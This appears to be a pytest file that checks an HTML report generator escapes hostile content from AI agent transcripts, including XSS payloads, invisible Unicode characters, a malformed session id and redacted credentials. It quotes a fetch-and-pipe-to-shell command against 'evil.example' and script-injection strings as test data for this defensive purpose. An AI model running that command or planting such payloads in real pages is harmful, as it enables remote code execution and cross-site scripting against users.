"""The hostile-input corpus, imported and reported: every byte of transcript text is shown as text.

These read the pages as HTML (no browser needed); test_report_browser.py opens them in Chromium.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from page_check import broken_links, embedded, page_text, parse, unsafe_markup
from report_gen import CMD, CWD, MODEL, PROMPT, SID, TOKEN

from rematch_trace.host.ids import clean_id
from rematch_trace.report.render import CSP


def pages(report: Path) -> list[Path]:
    return [report / "index.html", *sorted((report / "sessions").glob("*.html"))]


def test_every_session_has_a_page_and_the_run_says_so(hostile: dict[str, Any]) -> None:
    report = hostile["report"]
    assert len(hostile["sessions"]) == 8
    assert {p.stem for p in (report / "sessions").glob("*.html")} == {s["key"] for s in hostile["sessions"]}
    assert "8 session(s): 8 page(s) written" in hostile["run"].stdout


def test_no_page_holds_markup_from_a_transcript(hostile: dict[str, Any]) -> None:
    for path in pages(hostile["report"]):
        page = parse(path)
        assert unsafe_markup(page) == [], path
        # One CSP, forbidding inline script and every network source, on every page.
        csp = [a.get("content") for t, a in page.tags if t == "meta" and a.get("http-equiv") == "Content-Security-Policy"]
        assert csp == [CSP], path
        assert "'unsafe-inline'" not in CSP and "script-src 'self'" in CSP and "default-src 'none'" in CSP


def test_payloads_are_shown_as_text(hostile: dict[str, Any]) -> None:
    """The payloads are there, escaped: a reviewer sees what the agent was sent."""
    session = next(s for s in hostile["sessions"] if s["harness"] == "claude_code" and s["cwd"] == CWD)
    page = page_text(hostile["report"] / "sessions" / f"{session['key']}.html")
    assert "&lt;script&gt;alert(&#39;prompt&#39;)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=alert(&#39;img&#39;)&gt;" in page
    assert "<script>alert" not in page
    # Hidden characters are shown, not obeyed: the RTL override, an escape, a NUL, a zero-width space.
    for ch in ("\u202e", "\x1b", "\x00", "\u200b", "\x07", "\U000e0069"):
        assert ch not in page
    assert "\\u202e" in page and "\\u001b[31m" in page and "\\u200b" in page
    # Tag characters (invisible text) are spelled out, one escape each.
    assert "tagged\\U000e0069\\U000e0067\\U000e006e\\U000e006f\\U000e0072\\U000e0065" in page
    # The risky command reached the security table, redacted summary and all, as text.
    assert "remote code fetch exec" in page and "http://evil.example/x.sh | sh" in page
    assert CMD not in page and PROMPT not in page  # never raw


def test_embedded_data_round_trips_hostile_values(hostile: dict[str, Any]) -> None:
    """The index's JSON block cannot be closed by a value, and gives back each value exactly."""
    index = hostile["report"] / "index.html"
    raw = index.read_text()
    block = raw[raw.index('<script type="application/json"'):]
    block = block[: block.index("</script>")]
    assert "<" not in block[block.index(">") + 1:]  # no tag can start inside it
    data = embedded(parse(index))
    by_key = {s["k"]: s for s in data["sessions"]}
    assert len(by_key) == 8
    cwd_sessions = [s for s in hostile["sessions"] if s["cwd"] == CWD]
    assert len(cwd_sessions) == 3
    for s in cwd_sessions:
        assert by_key[s["key"]]["m"].endswith(MODEL)
    # A session id that has no id's shape is replaced where it enters the core (host/ids.py), so the
    # hostile id reaches no output, escaped or not.
    odd = next(s for s in hostile["sessions"] if s["session_id"] == clean_id(SID))
    assert odd["session_id"].startswith("redacted-")
    assert SID not in json.dumps(data) and SID not in raw
    assert "alert(&#39;sid&#39;)" not in raw


def test_filter_menu_labels_hold_no_hidden_character(hostile: dict[str, Any]) -> None:
    """A model or folder with a bidi override, a zero-width or a tag character is labelled escaped in the
    filter menus and chart legends; the value the filter matches stays exact."""
    data = embedded(parse(hostile["report"] / "index.html"))
    labels = data["labels"]
    shown = "m\\u200b\\u202e\\U000e0041</script><script>alert('model')</script>"
    hostile_models = {s["m"] for s in data["sessions"] if s["m"].endswith(MODEL)}
    assert len(hostile_models) == 2 and all(labels[m] == m[: -len(MODEL)] + shown for m in hostile_models)
    values = {s[k] for s in data["sessions"] for k in ("h", "m", "r", "d")} | {u[1] for s in data["sessions"] for u in s["u"]}
    for v in values:
        shown = labels.get(v, v)
        assert shown.isprintable() and not any(0xE0000 <= ord(c) <= 0xE007F for c in shown), repr(v)
        assert not any(c in shown for c in "\u200b\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"), repr(v)


def test_the_50mb_line_is_collapsed_and_not_cut_silently(hostile: dict[str, Any]) -> None:
    huge = next(s for s in hostile["sessions"] if s["session_id"].endswith("000003") and s["harness"] == "omp")
    path = hostile["report"] / "sessions" / f"{huge['key']}.html"
    assert path.stat().st_size < 200_000  # the trace holds 16 KiB of the prompt; the page shows that
    text = page_text(path)
    assert "<details class=\"long\">" in text and "characters, 1 line(s)</span></summary>" in text


def test_every_link_resolves(hostile: dict[str, Any]) -> None:
    parsed = {p.resolve(): parse(p) for p in pages(hostile["report"])}
    for path, page in parsed.items():
        assert broken_links(path, page, parsed) == [], path


def test_nothing_written_outside_the_report_folder(hostile: dict[str, Any]) -> None:
    report = hostile["report"]
    names = {p.relative_to(report).as_posix() for p in report.rglob("*")}
    assert not [n for n in names if n.endswith((".tmp", ".trash"))]
    assert {"index.html", "summaries.json", "assets/chart.umd.min.js", "assets/chart.js.LICENSE.md"} <= names
    data = hostile["data"]
    assert sorted(p.name for p in data.iterdir()) == sorted(
        ["claims.lock", "conversations", "events", "import.lock", "journal", "ledger.sqlite", "pending", "report", "traces",
         "search.sqlite",  # the search index, made by the import (docs/search.md)
         *[p.name for p in data.iterdir() if p.name.startswith(("ledger.sqlite-", "search.sqlite-"))]])


def test_redaction_applies_the_report_shows_only_what_the_trace_holds(hostile: dict[str, Any]) -> None:
    """A credential typed in a prompt and passed in a command reaches no report file."""
    traces = b"".join(p.read_bytes() for p in (hostile["data"] / "traces").glob("*.jsonl"))
    assert TOKEN.encode() not in traces  # the import redacted it ...
    for p in hostile["report"].rglob("*"):
        if p.is_file():
            assert TOKEN.encode() not in p.read_bytes(), p  # ... and the report shows nothing else
    assert any("[REDACTED:" in page_text(p) for p in (hostile["report"] / "sessions").glob("*.html"))
